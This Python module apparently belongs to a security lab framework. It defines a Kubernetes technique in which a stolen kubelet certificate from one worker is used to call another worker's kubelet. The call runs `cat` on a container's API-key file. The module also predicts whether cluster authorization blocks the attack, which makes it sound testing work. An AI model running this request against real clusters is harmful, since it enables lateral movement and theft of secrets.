"""Run a command in a container of another worker, with the certificate of a kubelet.

The attacker needs root on a worker, where they take the certificate of its kubelet. They call the
kubelet of another worker and read a secret from a file in one of its containers. It succeeds if
that kubelet allows every authenticated caller. It stops if the kubelets ask the apiserver for
authorization, because a kubelet has no right to ``nodes/proxy``.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.model.decision import ALLOWED, Action, decide_at_kubelet
from labkit.model.rights import known_to_kubelet
from labkit.techniques._lib.api.access import credential_at, options_at
from labkit.techniques._lib.api.ask import ask
from labkit.techniques._lib.api.kubelet import (
    DISABLED,
    as_apiserver,
    kubelet_url,
    retry_unknown_pod,
    runs_commands,
    serves_apiserver,
)
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    ROOT_ON_WORKER,
    SECRETS,
    Prediction,
    Technique,
    all_of,
    holds,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WANTED = ("payments", "card-processor", "api-key")
OTHER = "worker2"
KUBELET = f"kubelet@{OTHER}"
CHANNEL = f"kube-apiserver@* -> {KUBELET}:*"
FILE = "/run/secrets/card-processor/api-key"
PATH = f"/run/payments/card-processor/card-processor?cmd=cat%20{FILE}"
#: The action that the kubelet asks the apiserver to authorize.
ACTION = Action("create", "nodes/proxy", name=OTHER)


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict how the kubelet identifies the caller, and what they may do there."""
    env, kubelet = model.environment, model.environment.component(KUBELET)
    caller = known_to_kubelet(env, kubelet, credential_at(env, foothold))
    found = decide_at_kubelet(env, kubelet, caller, ACTION)
    known = Prediction(True, (str(caller.claim),))
    return all_of(known, holds(found.claim, ALLOWED), runs_commands(kubelet))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Read a file in the pod payments/card-processor, which runs on the other worker."""
    secret = true_secret(lab, *WANTED)

    def proof(answer: Answer) -> str:
        if not secret.found_in(answer.body):
            raise ProbeError("the kubelet answered, but not with the container's file")
        return f"ran cat in payments/card-processor, and read: {secret.proof}"

    def control() -> str:
        return serves_apiserver(
            lab, lambda: proof(as_apiserver(lab, "POST", PATH, CHANNEL)), CHANNEL
        )

    return retry_unknown_pod(
        lab,
        lambda: ask(
            lab,
            TECHNIQUE.name,
            foothold,
            kubelet_url(lab, PATH, CHANNEL),
            method="POST",
            more_refusals=(DISABLED,),
            options=options_at(lab.environment, foothold),
            proof=proof,
            control=control,
        ),
    )


TECHNIQUE = Technique(
    name="kubelet-neighbour",
    title="From one worker, get into the containers of another",
    footholds=(ROOT_ON_WORKER,),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1609", "T1021", "T1552.004"),
    stride=("elevation of privilege", "information disclosure"),
    cwe=("CWE-862",),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/",
        "https://attack.mitre.org/techniques/T1609/",
    ),
    predict=predict,
    execute=execute,
    machines=(OTHER,),
)
